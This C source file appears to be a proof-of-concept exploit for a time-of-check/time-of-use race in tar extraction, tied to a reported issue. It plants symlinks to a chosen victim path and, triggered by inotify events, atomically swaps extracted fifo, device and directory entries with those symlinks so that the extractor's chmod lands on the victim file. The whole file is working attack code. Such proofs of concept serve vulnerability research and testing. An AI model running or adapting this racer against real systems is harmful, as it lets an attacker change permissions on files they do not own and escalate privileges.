// The tar -x attribute race (issue 9, item 2), as a process able to write in
// the destination could run it: member names are swapped with a symlink to
// VICTIM and back, atomically (renameat2 RENAME_EXCHANGE), at the moments an
// extractor that sets attributes by name would follow the symlink:
// - a fifo/device member is swapped as soon as it is created (IN_CREATE),
//   before the extractor's chmod of it;
// - when a directory's attributes change (IN_ATTRIB, the final pass going
//   backwards through the archive), the directory before it in LIST is
//   swapped back and forth, between the extractor's check and its chmod.
// LIST holds the member names in archive order, one per line.
// Runs until DIR/.stop is created. usage: racer DIR VICTIM LIST
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <sys/inotify.h>
#include <sys/syscall.h>
#include <sys/stat.h>

static int dir;
static char **names;
static int count;

static int exchange(int i) {
    char link[32];
    snprintf(link, sizeof link, ".L%d", i);
    return (int)syscall(SYS_renameat2, dir, names[i], dir, link, 2 /* RENAME_EXCHANGE */);
}

static int lookup(const char *name) {
    for (int i = 0; i < count; i++) if (strcmp(names[i], name) == 0) return i;
    return -1;
}

int main(int argc, char **argv) {
    if (argc != 4) return 2;
    dir = open(argv[1], O_PATH | O_DIRECTORY);
    if (dir < 0) { perror(argv[1]); return 1; }
    FILE *f = fopen(argv[3], "r");
    if (!f) { perror(argv[3]); return 1; }
    char line[256];
    names = calloc(100000, sizeof *names);
    while (count < 100000 && fgets(line, sizeof line, f)) {
        line[strcspn(line, "/\n")] = 0;
        names[count++] = strdup(line);
    }
    for (int i = 0; i < count; i++) {
        char link[32];
        snprintf(link, sizeof link, ".L%d", i);
        if (symlinkat(argv[2], dir, link) != 0) { perror(link); return 1; }
    }
    int in = inotify_init1(0);
    if (in < 0 || inotify_add_watch(in, argv[1], IN_CREATE | IN_ATTRIB) < 0) { perror("inotify"); return 1; }
    printf("ready\n"); fflush(stdout);
    unsigned long swaps = 0;
    char buf[1 << 16] __attribute__((aligned(8)));
    for (;;) {
        ssize_t n = read(in, buf, sizeof buf);
        if (n <= 0) break;
        struct stat st;   // (events can be dropped when the queue overflows)
        if (fstatat(dir, ".stop", &st, AT_SYMLINK_NOFOLLOW) == 0) break;
        for (char *p = buf; p < buf + n;) {
            struct inotify_event *e = (struct inotify_event *)p;
            p += sizeof *e + e->len;
            if (e->len == 0) continue;
            if (strcmp(e->name, ".stop") == 0) { fprintf(stderr, "%lu swaps\n", swaps); return 0; }
            int i = lookup(e->name);
            if (i < 0) continue;
            if ((e->mask & IN_CREATE) && !(e->mask & IN_ISDIR)) {
                // A fifo or device: the symlink takes its place for a while.
                if (exchange(i) == 0) { swaps++; usleep(2000); exchange(i); }
            } else if ((e->mask & IN_ATTRIB) && i > 0) {
                for (int k = 0; k < 300; k++) if (exchange(i - 1) == 0) { swaps++; exchange(i - 1); }
            }
        }
    }
    fprintf(stderr, "%lu swaps\n", swaps);
    return 0;
}
